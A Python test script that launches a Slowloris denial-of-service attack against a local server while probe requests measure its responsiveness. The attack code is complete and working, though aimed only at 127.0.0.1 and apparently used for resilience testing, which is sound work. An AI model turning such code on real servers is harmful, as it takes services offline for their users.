#!/usr/bin/env python3
"""Slowloris against 127.0.0.1: N connections each send one header line every INTERVAL seconds,
while a probe measures how long a normal GET takes. Prints one line per probe and a summary.
Usage: slowloris.py PORT PATH [N=20] [INTERVAL=5] [SECONDS=40]"""
import socket, sys, threading, time, urllib.request

port, path = int(sys.argv[1]), sys.argv[2]
n = int(sys.argv[3]) if len(sys.argv) > 3 else 20
interval = float(sys.argv[4]) if len(sys.argv) > 4 else 5
seconds = float(sys.argv[5]) if len(sys.argv) > 5 else 40
cut = [0]
stop = time.time() + seconds

def slow():
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=seconds + 5)
        s.sendall(b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\n")
        while time.time() < stop:
            time.sleep(interval)
            s.sendall(b"X-Slow: 1\r\n")
        s.close()
    except OSError:
        cut[0] += 1

threads = [threading.Thread(target=slow, daemon=True) for _ in range(n)]
for t in threads:
    t.start()
time.sleep(1)
worst, fails = 0.0, 0
while time.time() < stop - 1:
    t0 = time.time()
    try:
        urllib.request.urlopen("http://127.0.0.1:%d%s" % (port, path), timeout=15).read()
        dt = time.time() - t0
        worst = max(worst, dt)
        print("probe %.3f s" % dt, flush=True)
    except Exception as e:
        fails += 1
        print("probe FAILED after %.1f s: %s" % (time.time() - t0, e), flush=True)
    time.sleep(2)
for t in threads:
    t.join(timeout=1)
print("slowloris n=%d interval=%.0fs: worst probe %.3f s, failed probes %d, slow connections cut by the server %d"
      % (n, interval, worst, fails, cut[0]))
